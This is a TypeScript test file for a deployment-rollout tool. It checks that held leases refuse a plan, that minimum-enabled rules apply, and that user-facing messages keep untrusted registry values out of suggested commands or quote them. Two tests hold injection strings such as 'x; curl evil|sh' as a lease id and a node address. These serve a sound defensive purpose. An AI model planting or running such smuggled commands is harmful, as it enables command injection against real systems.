import { expect, test } from 'vitest';
import { claimOf } from '../../../src/core/registry/lease.ts';
import { makePlan } from '../../../src/core/planning/make-plan.ts';
import { makeReview } from '../../../src/runner/review/make-review.ts';
import type { HeldBy } from '../../../src/runner/review/review.ts';
import { fakeRegistry } from '../../cli/support/fake-registry.ts';
import { anyCommand } from '../../support/any-command.ts';
import { noEvidence } from '../../support/no-evidence.ts';
import { spoken } from '../../support/spoken.ts';
import { hastyClock } from '../../support/time/hasty-clock.ts';
import { of, three } from './reviewed.ts';

const holder: HeldBy = {
  service: 'orders',
  id: '7f3a0001',
  by: 'bob@bastion',
  since: '2026-11-21T20:00:00.000Z',
};

/** Two of three are on, as another rollout drains the third, and two have to stay on. */
async function reviewed(heldBy: HeldBy | undefined): Promise<Awaited<ReturnType<typeof makeReview>>> {
  const list = three().map((one) => ({ ...one, enabled: one.ip !== '10.0.0.1' }));
  const made = makePlan(
    {
      version: 1,
      defaults: { deploy: { run: 'true' }, minimum: 2 },
      stages: [{ services: [{ service: 'orders' }] }],
    },
    { namespace: 'public', group: 'DEFAULT_GROUP', lists: () => list },
  );
  if (!made.ok) throw new Error(made.problem.kind);
  return makeReview(
    {
      clock: hastyClock(),
      registry: fakeRegistry(list),
      probe: async () => ({ kind: 'good', ms: 1 }),
      evidence: noEvidence,
      commands: anyCommand,
      heldBy: async (services) => (services.some(({ service }) => service === 'orders') ? heldBy : undefined),
    },
    made.plan,
  );
}

test('whoever holds a service refuses the plan, and what is left on meanwhile refuses nothing', async () => {
  const { findings } = await reviewed(holder);
  expect(findings.filter(({ level }) => level === 'refused')).toEqual([
    { level: 'refused', kind: 'locked', ...holder },
  ]);
  for (const language of ['en', 'zh-CN'] as const)
    expect(spoken[language].failures.finding({ level: 'refused', kind: 'locked', ...holder })).toContain(
      'nacos-rollout attach 7f3a0001',
    );
});

test('the id of a lease is whatever stands in the registry: what is no id of ours is put into no command', () => {
  const claim = claimOf({
    metadata: { id: 'x; curl evil|sh', by: 'bob@b', since: '20:00', stage: 'holding' },
  });
  expect(claim?.stage).toBe('holding');
  for (const language of ['en', 'zh-CN'] as const) {
    const { failures } = spoken[language];
    const locked = { ...holder, kind: 'locked', id: claim?.id ?? '' } as const;
    for (const said of [failures.launchProblem(locked), failures.finding({ level: 'refused', ...locked })]) {
      expect(said).toContain('x; curl evil|sh');
      expect(said).not.toContain('attach');
    }
  }
});

test('the address of a member is one word of the flag that accepts it', () => {
  for (const language of ['en', 'zh-CN'] as const)
    expect(
      spoken[language].failures.finding({
        level: 'warning',
        kind: 'node-not-accepted',
        address: 'a:1;curl evil|sh',
      }),
    ).toContain("--accept-node 'a:1;curl evil|sh'");
});

test('where nobody holds it, the minimum speaks', async () => {
  expect(of((await reviewed(undefined)).findings, 'minimum-impossible')).toHaveLength(1);
});
